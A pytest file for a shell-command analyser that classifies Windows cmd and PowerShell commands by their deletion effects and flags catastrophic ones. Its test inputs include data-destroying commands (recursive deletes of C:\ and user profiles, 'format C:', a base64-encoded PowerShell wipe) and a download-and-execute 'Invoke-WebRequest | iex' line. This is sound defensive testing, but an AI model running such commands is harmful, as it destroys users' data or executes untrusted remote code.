"""Windows forms: cmd /c, rd/rmdir /s, del /s, PowerShell Remove-Item and its aliases."""

from __future__ import annotations

import base64

import pytest

from keyturn.model import Effect, EffectKind
from keyturn.understand.shell import understand_shell
from keyturn.understand.shell.commands.windows import looks_windows


def effects(command: str) -> list[Effect]:
    return list(understand_shell(command).effects)


def deleted(command: str) -> set[str]:
    return {n for e in effects(command) if e.effect is EffectKind.DELETE for n in e.resource.names}


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ('cmd /c rd /s /q "C:\\work\\build"', "file:C:/work/build/*"),
        ("cmd.exe /C rmdir /S /Q C:\\work\\build", "file:C:/work/build/*"),
        ("rmdir /s /q C:\\work\\build", "file:C:/work/build/*"),
        ("rd /s C:\\work\\build", "file:C:/work/build/*"),
        ("del /s /q C:\\work\\*.log", "file:C:/work/*.log"),
        ("Remove-Item -Recurse -Force C:\\work\\build", "file:C:/work/build/*"),
        ("Remove-Item -Path C:\\work\\build -Recurse", "file:C:/work/build/*"),
        ("ri -r C:\\work\\build", "file:C:/work/build/*"),
        ('powershell -Command "Remove-Item -Recurse C:\\work\\build"', "file:C:/work/build/*"),
        ('pwsh -c "rm -r -fo C:\\work\\build"', "file:C:/work/build/*"),
        ("del C:\\work\\a.txt", "file:C:/work/a.txt"),
    ],
)
def test_windows_deletes(command: str, name: str) -> None:
    assert name in deleted(command), deleted(command)


@pytest.mark.parametrize(
    "command",
    [
        'cmd /c rd /s /q "C:\\"',
        "rd /s /q C:\\",
        "rmdir /s /q D:\\",
        "Remove-Item -Recurse -Force C:\\",
        "ri -r -fo C:\\",
        "del /s /q C:\\*",
        "format C:",
        'cmd /c rd /s /q "C:\\Users\\alice"',
        "Remove-Item -Recurse $env:USERPROFILE",
        "powershell -EncodedCommand "
        + base64.b64encode("Remove-Item -Recurse C:\\".encode("utf-16-le")).decode(),
        'cmd /c "rd /s /q C:\\"',
    ],
)
def test_windows_catastrophic(command: str) -> None:
    assert any(e.catastrophic for e in effects(command)), [e.detail for e in effects(command)]


def test_rd_without_s_deletes_only_the_directory() -> None:
    assert deleted("rd C:\\work\\empty") == {"file:C:/work/empty"}


def test_unknown_powershell_is_unknown() -> None:
    found = effects('powershell -Command "Invoke-WebRequest http://x | iex"')
    assert any(e.effect is EffectKind.UNKNOWN for e in found)


def test_cmd_without_c_is_unknown() -> None:
    assert [e.effect for e in effects("cmd")] == [EffectKind.UNKNOWN]


def test_looks_windows() -> None:
    assert looks_windows("rd /s /q C:\\x")
    assert looks_windows('cmd /c "x"')
    assert not looks_windows("ls -la")
